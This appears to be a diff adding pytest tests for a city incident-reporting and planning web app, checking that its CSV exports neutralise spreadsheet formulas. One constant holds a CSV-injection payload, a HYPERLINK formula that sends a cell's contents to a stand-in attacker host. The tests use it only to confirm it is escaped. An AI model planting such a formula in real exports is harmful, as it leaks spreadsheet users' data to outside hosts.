@@ -1,0 +1,70 @@
+"""Data kept in (issue 25, part 3; ../shared/SECURITY.md round 2, findings 7, 11, 15, 17):
+CSV cells that a spreadsheet would run are neutralised in every CSV the app writes,
+control characters stored in old rows do not break Open311's XML, the CSP nonce is on the
+app's own scripts only, and photos are bounded per request and per user per hour."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tests.accounts import logged_in, signed_in
+from tests.conftest import copy_city
+from tests.web.conftest import city_copy, spot_in
+from tests.web.test_plan_compare import make_plan, neighborhoods
+from web import create_app
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
+
+
+@pytest.fixture(scope="module")
+def k_db(sample_path, tmp_path_factory):
+    return city_copy(sample_path, tmp_path_factory, "keptin")
+
+
+@pytest.fixture(scope="module")
+def k_app(k_db):
+    return create_app({"DATABASE_URL": k_db, "TESTING": True})
+
+
+def test_a_public_formula_comes_out_of_the_incidents_csv_as_text(k_app, k_db):
+    _, lon, lat = spot_in(k_db)
+    public = k_app.test_client()
+    r = public.post(
+        "/public/report",
+        data={"lon": lon, "lat": lat, "category": "E0103", "description": FORMULA},
+    )
+    assert r.status_code == 201
+    dispatcher = signed_in(k_app.test_client(), k_db, "dispatcher")
+    r = dispatcher.get("/data/export/incidents.csv")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.get_data().decode("utf-8-sig"))))
+    planted = [x for x in rows if FORMULA in x["description"]]
+    assert len(planted) == 1
+    assert planted[0]["description"] == "'" + FORMULA
+    for row in rows:  # no text cell starts a formula; numbers stay numbers
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "@", "\t", "\r")), (name, cell)
+        float(row["lon"]), float(row["lat"])
+
+
+def test_a_plan_district_name_comes_out_of_compare_csv_as_text(sample_path, tmp_path):
+    path = tmp_path / "city.gpkg"
+    copy_city(sample_path, path)
+    url = f"gpkg://{path}"
+    app = create_app({"DATABASE_URL": url, "TESTING": True})
+    planner = logged_in(app.test_client(), url, "planner")
+    assignment = neighborhoods(path)
+    renamed = sorted(assignment)[0]
+    assignment[renamed] = FORMULA
+    plan = make_plan(planner, "a formula", assignment)
+    r = planner.get(f"/plans/{plan}/compare.csv")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.get_data().decode("utf-8")[1:])))
+    assert ("'" + FORMULA) in {x["new"] for x in rows}
+    assert FORMULA not in {x["new"] for x in rows}
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@")), cell
